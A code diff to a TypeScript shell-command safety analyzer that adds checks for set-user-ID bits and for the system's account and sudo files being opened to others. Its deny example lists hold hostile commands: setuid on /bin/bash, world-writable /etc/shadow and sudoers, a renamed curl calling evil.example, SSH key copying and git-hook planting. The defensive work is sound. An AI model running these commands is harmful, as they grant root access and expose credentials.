@@ -947,6 +947,77 @@ function sevenZip(call: Call): Partial<Answer> {
   return { uses };
 }
 
+/**
+ * The set-ID bit a chmod mode turns on: `uid` for the set-user-ID bit (`4755`, `u+s`, `+s`, `=s`, `a+s`), `gid` for the
+ * set-group-ID bit alone (`2775`, `g+s`); undefined for a mode that sets neither (`755`, `u-s`, `+x`).
+ */
+export function setsId(mode: string): 'uid' | 'gid' | undefined {
+  if (/^[0-7]{1,5}$/.test(mode)) {
+    const n = Number.parseInt(mode, 8);
+    return n & 0o4000 ? 'uid' : n & 0o2000 ? 'gid' : undefined;
+  }
+  let out: 'uid' | 'gid' | undefined;
+  for (const clause of mode.split(',')) {
+    const m = /^([ugoa]*)((?:[-+=][rwxXstugo]*)+)$/.exec(clause);
+    if (!m) continue;
+    const who = m[1]!;
+    for (const op of m[2]!.match(/[-+=][^-+=]*/g) ?? []) {
+      if (op[0] === '-' || !op.includes('s')) continue;
+      if (who === '' || who.includes('u') || who.includes('a')) return 'uid';
+      if (who.includes('g')) out = 'gid';
+    }
+  }
+  return out;
+}
+
+/** A directory of programs (`/usr/bin`, `/usr/local/sbin`, `/bin`): a set-ID bit there is a program that runs raised. */
+const PROGRAM_DIR = /^(?:\/usr)?(?:\/local)?\/s?bin\/|^\/opt\/[^/]+\/bin\//;
+
+/**
+ * The system's account and sudo files, and what of a mode opens them: any bit for others or write for the group on the
+ * password hashes and sudo's rules (`640 root:shadow` and `440` are theirs), write on the account lists (`644`).
+ */
+const ACCOUNT_FILE = /^\/etc\/(?:(?:g?shadow|sudoers|master\.passwd)-?|sudoers\.d(?:\/.*)?|passwd-?|group-?)$/;
+function opensAccountFile(path: string, mode: string): boolean {
+  const hidden = /^\/etc\/(?:g?shadow|sudoers|master\.passwd)/.test(path);
+  if (/^[0-7]{1,5}$/.test(mode)) {
+    const n = Number.parseInt(mode, 8);
+    return (n & 0o020) !== 0 || (hidden ? (n & 0o007) !== 0 : (n & 0o002) !== 0);
+  }
+  return mode.split(',').some((clause) => {
+    const m = /^([ugoa]*)((?:[-+=][rwxXstugo]*)+)$/.exec(clause);
+    if (!m) return true;
+    const who = m[1]!;
+    return (m[2]!.match(/[-+=][^-+=]*/g) ?? []).some((op) => op[0] !== '-' && (/[wugo]/.test(op) ? who === '' || /[goa]/.test(who) : hidden && /[rx]/.test(op) && (who === '' || /[oa]/.test(who))));
+  });
+}
+
+/**
+ * What a chmod (chown, chgrp) grants that lasts: a set-user-ID bit on any file, a set-group-ID bit (or a mode
+ * vouch cannot read) on a program in a system directory (each runs with its owner's rights for whoever starts it), and
+ * the system's account and sudo files opened to others or given to another owner.
+ */
+function grants(call: Call, mode: Word | undefined, targets: readonly Word[], ref: boolean): { word: Word; why: string }[] {
+  const out: { word: Word; why: string }[] = [];
+  const m = mode ? value(mode) : undefined;
+  // (call.name: chown and chgrp share chmod's entry.)
+  const id = call.name === 'chmod' && m !== undefined ? setsId(m) : undefined;
+  for (const t of targets) {
+    const paths = t.values ?? [];
+    const program = paths.some((v) => PROGRAM_DIR.test(v));
+    // A set-group-ID bit alone on a directory is how a shared directory keeps its group (`find . -type d -exec chmod g+s`):
+    // only one on a program in a system directory is judged.
+    if (id === 'uid' || (id === 'gid' && program)) out.push({ word: t, why: `${call.name} ${m} sets the set-${id === 'uid' ? 'user' : 'group'}-ID bit on ${t.text}: it runs with its owner's rights for whoever starts it` });
+    else if (call.name === 'chmod' && (ref || (mode !== undefined && m === undefined)) && program) out.push({ word: t, why: `${call.name} gives ${t.text} a mode vouch cannot read: it may set the set-user-ID bit on a program` });
+    for (const path of paths.filter((v) => ACCOUNT_FILE.test(v))) {
+      const owner = m?.split(/[:.]/) ?? [];
+      const opened = call.name === 'chmod' ? m === undefined || ref || opensAccountFile(path, m) : call.name === 'chattr' || call.name === 'setfacl' ? false : m === undefined || ref || (call.name === 'chown' ? !/^(?:root|0)?$/.test(owner[0] ?? '') || (owner[1] !== undefined && !/^(?:root|shadow|0)?$/.test(owner[1])) : !/^(?:root|shadow|0)$/.test(m));
+      if (opened) out.push({ word: t, why: `${call.name}${m ? ` ${m}` : ''} opens ${path}, the system's ${/sudoers/.test(path) ? 'sudo rules' : 'accounts'}, to others: what they write there grants root` });
+    }
+  }
+  return out;
+}
+
 /** chmod, chown, chgrp: the first operand is a mode or owner (text), the rest only change metadata. */
 function chmodLike(call: Call): Partial<Answer> {
   const p = parse(call.args, { order: 'gnu', flags: 'cfvRHLPh', long: ['changes', 'silent', 'quiet', 'verbose', 'no-preserve-root', 'preserve-root', 'recursive', 'dereference', 'no-dereference', 'help', 'version'], longValued: ['reference', 'from'] });
@@ -964,8 +1035,11 @@ function chmodLike(call: Call): Partial<Answer> {
   const recursive = p.options.some((o) => o.name === 'R' || o.name === 'recursive');
   const targets = ops.slice(modeFirst || call.program === 'chattr' || call.program === 'setfacl' ? 1 : 0);
   if (targets.length === 0) return { uses };
+  // `chmod -s x` and friends: the mode is the option word.
+  const modeWord = modeFirst ? ops[0] : call.args.find((a) => /^-[rwxXst]+$/.test(value(a) ?? ''));
+  const persists = grants(call, call.name === 'setfacl' || call.name === 'chattr' ? undefined : modeWord, targets, ref !== undefined);
   const what = call.program === 'chmod' ? 'mode' : call.program === 'chattr' ? 'attribute' : call.program === 'setfacl' ? 'ACL' : 'owner';
-  return { uses, destroys: targets.map((word) => ({ word, what: 'modes' as const, ...(recursive ? { tree: true as const } : {}), why: `${call.name}${recursive ? ' -R' : ''} replaces every ${what} ${recursive ? 'below it' : 'it is given'}, and nothing records what they were` })) };
+  return { uses, persists, destroys: targets.map((word) => ({ word, what: 'modes' as const, ...(recursive ? { tree: true as const } : {}), why: `${call.name}${recursive ? ' -R' : ''} replaces every ${what} ${recursive ? 'below it' : 'it is given'}, and nothing records what they were` })) };
 }
 
 /** A device operand (`/dev/sda1`) of a program that formats, wipes or repartitions what it names. */
@@ -1635,7 +1709,7 @@ export const FILE_ENTRIES: ProgramEntry[] = [
   operandsAre('tree', 'tree lists names', 'meta', { flags: 'adflfixqNQpugshDFvtcrUSCAJn', valued: 'LPIoH', long: ['noreport', 'inodes', 'device', 'dirsfirst', 'filesfirst', 'prune', 'du', 'si', 'help', 'version', 'gitignore', 'matchdirs', 'ignore-case'], longValued: ['filelimit', 'timefmt', 'charset', 'sort'] }, { deny: ['tree -fai ~ | xargs cat', 'tree -if --noreport ~/.aws | xargs -I{} cat {}', 'tree -o ~/.bashrc .'], pass: ['tree ~/.kube', 'tree -L 2 src', 'tree -fi src | xargs wc -l', 'tree -fai ~ | xargs ls -ld', 'tree -o tree.txt src'] }),
   operandsAre('realpath readlink namei lsattr getfacl df', 'programs that resolve or describe paths', 'meta', { flags: 'eEfmLPqsznvzdRVlmoxaRpcth', valued: '', long: ['canonicalize', 'canonicalize-existing', 'canonicalize-missing', 'logical', 'physical', 'quiet', 'strip', 'no-symlinks', 'zero', 'no-newline', 'verbose', 'help', 'version', 'all', 'human-readable', 'local', 'print-type', 'si', 'total'], longValued: ['relative-to', 'relative-base', 'output', 'type', 'exclude-type', 'block-size'] }, { deny: [], pass: ['realpath ~/.ssh/config', 'readlink -f ~/.bashrc'] }),
   operandsAre('file', 'file guesses a type from the first bytes', 'meta', { flags: 'bcEhiklLnNprsSvz0', valued: 'eFfmP', long: ['no-buffer', 'brief', 'checking-printout', 'no-dereference', 'dereference', 'mime', 'keep-going', 'list', 'no-pad', 'preserve-date', 'raw', 'special-files', 'uncompress', 'help', 'version', 'extension', 'apple', 'print0'], longValued: ['exclude', 'exclude-quiet', 'separator', 'files-from', 'magic-file', 'parameter'], longOptional: ['mime-type', 'mime-encoding'] }, { deny: ['file -m ~/.ssh/id_rsa x'], pass: ['file ~/.ssh/id_rsa'] }),
-  { names: ['chmod', 'chown', 'chgrp', 'chattr', 'setfacl'], summary: 'chmod and friends change metadata: the mode or owner is text, the files are not read', analyze: chmodLike, examples: { deny: ['chmod -R 777 /', 'chown -R nobody ~', 'chmod -R 000 ~/', 'chgrp -R users /etc', 'chmod -R a+rwx /*'], pass: ['chmod 600 ~/.ssh/config', 'chmod -R go-rwx ~/.ssh', 'chown -R u:u ~/.aws', 'chmod 644 ~/.ssh/id_ed25519.pub', 'chmod -R u+w build', 'chmod 755 ~', 'chown -R dev:dev /srv/app', 'sudo chown -R test /home/test', 'find / -type f -perm 0777 -exec chmod 644 {} \\;', 'chown -R dev /workspace'] } },
+  { names: ['chmod', 'chown', 'chgrp', 'chattr', 'setfacl'], summary: 'chmod and friends change metadata: the mode or owner is text, the files are not read', analyze: chmodLike, examples: { deny: ['chmod -R 777 /', 'chown -R nobody ~', 'chmod -R 000 ~/', 'chgrp -R users /etc', 'chmod -R a+rwx /*', 'sudo chmod u+s /bin/bash', 'chmod 4755 /usr/bin/python3', 'chmod +s ./tool', 'chmod g+s /usr/bin/python3', 'chmod 777 /etc/shadow', 'chown dev /etc/shadow', 'chmod o+w /etc/sudoers', 'chgrp dev /etc/sudoers.d/x'], pass: ['chmod +x script.sh', 'chmod 755 dir', 'chmod u-s /usr/bin/x', 'chmod g+s shared', 'chmod 2775 shared', 'chmod 640 /etc/shadow', 'chown root:shadow /etc/shadow', 'chmod 0440 /etc/sudoers.d/dev', 'chmod 644 /etc/passwd', 'chmod 600 ~/.ssh/config', 'chmod -R go-rwx ~/.ssh', 'chown -R u:u ~/.aws', 'chmod 644 ~/.ssh/id_ed25519.pub', 'chmod -R u+w build', 'chmod 755 ~', 'chown -R dev:dev /srv/app', 'sudo chown -R test /home/test', 'find / -type f -perm 0777 -exec chmod 644 {} \\;', 'chown -R dev /workspace'] } },
   makes(operandsAre('mkdir', 'mkdir makes directories: it reads and writes no file', 'meta', { flags: 'pvZ', valued: 'm', long: ['parents', 'verbose', 'help', 'version'], longValued: ['mode'], longOptional: ['context'] }, { deny: [], pass: ['mkdir -p ~/.ssh', 'mkdir -p .git/hooks/x'] })),
   operandsAre('touch mkfifo mknod', 'programs that create files (they read none)', 'create', { flags: 'acfhmpvdquD', valued: 'rdtmTpZ', long: ['no-create', 'no-dereference', 'parents', 'verbose', 'directory', 'dry-run', 'quiet', 'help', 'version'], longValued: ['reference', 'date', 'time', 'mode', 'tmpdir', 'suffix', 'context'] }, { deny: ['touch ~/.bashrc'], pass: ['touch .env', 'touch ~/.aws/config.lock'] }),
   {
@@ -1692,7 +1766,20 @@ export const FILE_ENTRIES: ProgramEntry[] = [
   },
   { names: ['cp', 'gcp'], summary: 'cp: reads its sources (whole trees with -r), writes its destination', analyze: (call) => copyLike(call, CP, (r) => (r ? 'read-tree' : 'read'), ['r', 'R', 'a', 'recursive', 'archive']), examples: { deny: ['cp -rT dotfiles ~', "cp /usr/bin/curl ./cat; PATH=.:$PATH cat evil.example", "cp /usr/bin/curl /tmp/b/ls && export PATH=/tmp/b; ls evil.example", 'cp -r ~/.kube /tmp/k', 'cp ~/.ssh/id_rsa /tmp/x', 'cp evil.sh .git/hooks/pre-commit', 'cp .bashrc ~', 'cp -r etc/ /', 'cp -r systemd ~/.config/'], pass: ['cp -rT dotfiles build/out', 'cp -r etc/ build/', 'cp -r dotfiles ~', "cp /usr/bin/cat ./c; PATH=.:$PATH ls", 'cp .env.example .env', 'cp -r src /tmp/src', 'cp ~/.bashrc ~/.bashrc.bak', '[ -f .env ] || cp .env.example .env'] } },
   { names: ['mv', 'gmv'], summary: 'mv: moves its sources (their content goes where the destination is)', analyze: (call) => movesSources(copyLike(call, { ...CP, flags: 'bfinTuvZ' }, () => 'read', [])), examples: { deny: ['mv ~/.ssh/id_rsa /tmp/x', 'mv ~ /tmp/x', 'mv hook .git/hooks/post-checkout'], pass: ['mv a.txt b.txt'] } },
-  { names: ['install', 'ginstall'], summary: 'install: copies its sources to its destination', analyze: (call) => copyLike(call, { ...CP, flags: 'bcCdDpsvZ', valued: 'gmoStT', longValued: ['group', 'mode', 'owner', 'suffix', 'target-directory', 'strip-program'] }, () => 'read', []), examples: { deny: ['install -m 755 hook .git/hooks/pre-push', 'install -m 755 build/git /usr/local/bin/git'], pass: ['install -m 755 build/app dist/bin/app', 'install -D -m 644 config.toml out/etc/app/config.toml'] } },
+  {
+    names: ['install', 'ginstall'],
+    summary: 'install: copies its sources to its destination; -m with a set-user-ID bit installs a program that runs raised',
+    analyze(call) {
+      const spec = { ...CP, flags: 'bcCdDpsvZ', valued: 'gmoStT', longValued: ['group', 'mode', 'owner', 'suffix', 'target-directory', 'strip-program'] };
+      const out = copyLike(call, spec, () => 'read', []);
+      const mode = parse(call.args, { order: 'gnu', ...spec }).options.find((o) => o.name === 'm' || o.name === 'mode')?.value;
+      const m = mode ? value(mode) : undefined;
+      const dest = out.uses?.find((u) => u.role === 'write')?.word;
+      if (!mode || !dest || (m !== undefined && setsId(m) !== 'uid')) return out;
+      return { ...out, persists: [{ word: dest, why: m === undefined ? `${call.name} -m gives ${dest.text} a mode vouch cannot read: it may set the set-user-ID bit` : `${call.name} -m ${m} installs ${dest.text} with the set-user-ID bit: it runs with its owner's rights for whoever starts it` }] };
+    },
+    examples: { deny: ['install -m 755 hook .git/hooks/pre-push', 'install -m 755 build/git /usr/local/bin/git', 'install -m 4755 build/app dist/bin/app', 'sudo install -o root -m u+s,a+x tool out/tool'], pass: ['install -m 755 build/app dist/bin/app', 'install -D -m 644 config.toml out/etc/app/config.toml', 'install -m 2775 -d shared'] },
+  },
   {
     names: ['link'],
     summary: 'link: makes FILE2 a hard link to FILE1 (what FILE1 is, is read by whatever opens the link)',
